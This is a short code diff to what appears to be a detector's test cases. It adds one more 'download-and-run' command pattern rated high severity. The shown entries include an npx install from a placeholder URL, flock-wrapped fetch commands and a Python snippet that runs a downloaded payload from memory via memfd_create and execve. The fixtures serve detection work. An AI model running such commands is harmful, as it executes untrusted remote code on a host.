@@ -56,6 +56,7 @@ export const NEXT_STEPS: readonly ImageCase[] = [
   ),
   step('start/download-and-run', `npx -y ${URL}.tgz`, 'high'),
   step('start/download-and-run', `flock -n /tmp/l -c "${FETCH}"`, 'high'),
+  step('start/download-and-run', `flock -w 10 -E 5 -x -o /tmp/l -c "${FETCH}"`, 'high'),
   step(
     'start/download-and-run',
     `#!/usr/bin/env python3\nimport os, urllib.request\nfd = os.memfd_create("", 0)\nos.write(fd, urllib.request.urlopen("${URL}").read())\nos.execve(f"/proc/self/fd/{fd}", ["k"], {})`,
